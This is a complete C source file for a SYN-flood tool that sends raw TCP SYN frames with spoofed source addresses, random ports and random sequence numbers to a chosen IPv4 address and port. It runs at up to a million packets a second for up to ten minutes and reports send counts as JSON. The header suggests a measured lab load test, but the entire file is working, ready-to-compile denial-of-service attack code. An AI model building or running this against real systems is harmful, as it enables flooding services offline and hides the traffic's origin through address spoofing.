/* SYNs from addresses that nobody has, at a steady rate.
 *
 *   cc -O2 -o synflood synflood.c
 *   synflood INTERFACE HARDWARE_ADDRESS ADDRESS PORT FIRST_SOURCE SOURCES RATE SECONDS       (IPv4)
 *
 * Sources are drawn from SOURCES addresses that begin with FIRST_SOURCE, with any port and sequence number; the frames' sender is the
 * interface itself, so that what answers them comes back here and goes no further. Prints one line of JSON.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, OPTIONS = 20, FRAME = 14 + 20 + 20 + OPTIONS };
static uint8_t frame[BATCH][FRAME];
static uint64_t state = 88172645463325252ULL;
static uint64_t draw(void) { state ^= state << 13; state ^= state >> 7; state ^= state << 17; return state; }
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec * 1e-9; }
static uint16_t checksum(const uint8_t *at, int count, uint32_t sum) {
    for (int i = 0; i < count; i += 2) sum += at[i] << 8 | at[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum);
}
static void make(uint8_t *f, uint32_t source) {
    struct iphdr *ip = (void *)(f + 14);
    struct tcphdr *tcp = (void *)(f + 34);
    uint64_t chance = draw();
    ip->saddr = htonl(source); ip->id = chance; ip->check = 0; ip->check = checksum(f + 14, 20, 0);
    tcp->source = htons(1024 + (chance >> 16) % 64512); tcp->seq = draw();
    tcp->check = 0; tcp->check = checksum(f + 26, 8 + 20 + OPTIONS, IPPROTO_TCP + 20 + OPTIONS);   /* addresses lie before the TCP header */
}
int main(int count, char **word) {
    if (count != 9) { fprintf(stderr, "usage: synflood INTERFACE HARDWARE_ADDRESS ADDRESS PORT FIRST_SOURCE SOURCES RATE SECONDS\n"); return 2; }
    static const uint8_t options[OPTIONS] = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };
    uint32_t destination = inet_addr(word[3]), first = ntohl(inet_addr(word[5])), sources = atoi(word[6]);
    double rate = atof(word[7]), seconds = atof(word[8]);
    unsigned mac[6];
    if (sources < 1 || rate < 1 || rate > 1e6 || seconds <= 0 || seconds > 600 || destination == INADDR_NONE
        || sscanf(word[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) {
        fprintf(stderr, "synflood: up to a million a second, for up to ten minutes\n"); return 2;
    }
    int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1, big = 4 << 20;
    struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(word[1]) };
    struct ifreq interface = { 0 };
    strncpy(interface.ifr_name, word[1], IFNAMSIZ - 1);
    if (fd < 0 || bind(fd, (void *)&at, sizeof at) || ioctl(fd, SIOCGIFHWADDR, &interface)) { perror(word[1]); return 1; }
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &big, sizeof big);
    struct mmsghdr message[BATCH];
    struct iovec part[BATCH];
    memset(message, 0, sizeof message);
    for (int i = 0; i < BATCH; i++) {
        uint8_t *f = frame[i];
        struct iphdr *ip = (void *)(f + 14);
        struct tcphdr *tcp = (void *)(f + 34);
        for (int k = 0; k < 6; k++) f[k] = mac[k];
        memcpy(f + 6, interface.ifr_hwaddr.sa_data, 6); f[12] = 8; f[13] = 0;
        ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_TCP; ip->tot_len = htons(FRAME - 14); ip->daddr = destination;
        tcp->dest = htons(atoi(word[4])); tcp->doff = 5 + OPTIONS / 4; tcp->syn = 1; tcp->window = htons(64240);
        memcpy(f + 54, options, OPTIONS);
        part[i] = (struct iovec){ f, FRAME };
        message[i].msg_hdr.msg_iov = &part[i]; message[i].msg_hdr.msg_iovlen = 1;
    }
    double begin = now(), end = begin + seconds, t;
    uint64_t sent = 0, refused = 0;
    state ^= (uint64_t)(begin * 1e9);
    while ((t = now()) < end) {
        double owed = (t - begin) * rate - (double)(sent + refused);
        if (owed > rate / 10) refused += owed - rate / 10;   /* what the machine had no time for is not made up for in a burst */
        if (owed < BATCH) { struct timespec wait = { 0, (long)((BATCH - owed) / rate * 1e9) }; nanosleep(&wait, NULL); continue; }
        for (int i = 0; i < BATCH; i++) make(frame[i], first + draw() % sources);
        int n = sendmmsg(fd, message, BATCH, 0);
        if (n > 0) sent += n; else if (errno == ENOBUFS || errno == EAGAIN) refused += BATCH; else { perror("sendmmsg"); return 1; }
    }
    double took = now() - begin;
    printf("{\"sent\": %llu, \"not_sent\": %llu, \"seconds\": %.3f, \"per_second\": %.0f}\n", (unsigned long long)sent, (unsigned long long)refused, took, sent / took);
    return 0;
}
